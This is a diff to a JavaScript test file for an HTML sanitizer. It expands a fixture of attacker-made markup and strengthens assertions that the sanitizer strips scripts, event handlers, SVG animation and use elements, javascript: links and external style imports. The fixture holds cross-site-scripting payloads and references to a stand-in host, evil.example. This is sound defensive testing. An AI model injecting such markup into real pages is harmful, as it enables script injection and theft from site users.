@@ -168,7 +168,8 @@ test("a story that loads after the program has stopped is not given to it", asyn
 
 // A story whose markup was made by an attacker.
 const HOSTILE = `<p class="lead" onclick="hacked()" style="position:fixed" data-shape="1">Facts<script>hacked()</script><img src=x onerror="hacked()"
-  ><iframe srcdoc="<script>hacked()</script>"></iframe><svg><a xlink:href="javascript:hacked()"><text>x</text></a></svg
+  ><iframe srcdoc="<script>hacked()</script>"></iframe><svg onload="hacked()"><a xlink:href="javascript:hacked()"><text>x</text></a><use href="https://evil.example/a.svg#a"></use
+  ><animate attributeName="href" to="javascript:hacked()"></animate><foreignObject><p>x</p></foreignObject><style>@import "https://evil.example/b.css";</style></svg
   ><a class="js" href="java\tscript:hacked()">a</a><a class="js" href=" javascript:hacked()">b</a><a class="js" href="data:text/html,x">c</a
   ><a class="ok" href="https://other.example/">d</a><a class="ok" href="#card=x">e</a><a class="ok" href="ar/">f</a
   ><button formaction="javascript:hacked()" type="submit">g</button><input type="password" name="pin"><form action="https://evil.example"><input></form
@@ -187,15 +188,18 @@ test("of another site's markup only the elements and attributes of our own are k
   const page = await withForeignCards();
   const all = [...page.mount().querySelectorAll("*")];
   const has = (name) => all.some((node) => node.localName == name);
-  for (const name of ["script", "img", "iframe", "svg", "form", "template", "x-widget", "object", "link"]) assert(!has(name), name);
+  for (const name of ["script", "img", "iframe", "text", "use", "animate", "foreignObject", "form", "template", "x-widget", "object", "link"]) assert(!has(name), name);
+  assert(all.every((node) => node.localName != "style" || node.textContent == ""), "no styles from within a drawing");
   for (const node of all)
-    for (const { name } of [...node.attributes]) assert(!/^(on.*|style|formaction|src|srcdoc|action|data-shape)$/.test(name), name);
+    for (const { name } of [...node.attributes]) assert(!/^(on.*|style|formaction|src|srcdoc|action|data-shape|xlink:.*)$/.test(name), name);
   assert.deepEqual(all.filter((node) => node.matches(".js")).map((node) => node.hasAttribute("href")), [false, false, false]);
   assert.deepEqual(all.filter((node) => node.matches(".ok")).map((node) => node.getAttribute("href")), ["https://other.example/", "#card=x", "ar/"]);
   assert(!all.some((node) => ["password", "submit"].includes(node.getAttribute("type"))));
   assert.equal(page.seen().length, 4, "the facts are there");
   assert(!page.mount().hasAttribute("data-shape"), "it is not taken for what this engine has made");
   assert.match(page.find(".lead").textContent, /^Facts/);
+  const [figure, coast] = [".figure > b", ".face > svg[viewBox] > path[d]"].map((selector) => page.find(selector));
+  assert(figure && coast, "figures and faces are our own");
 });
 
 test("styles of another site cannot fetch anything", async () => {
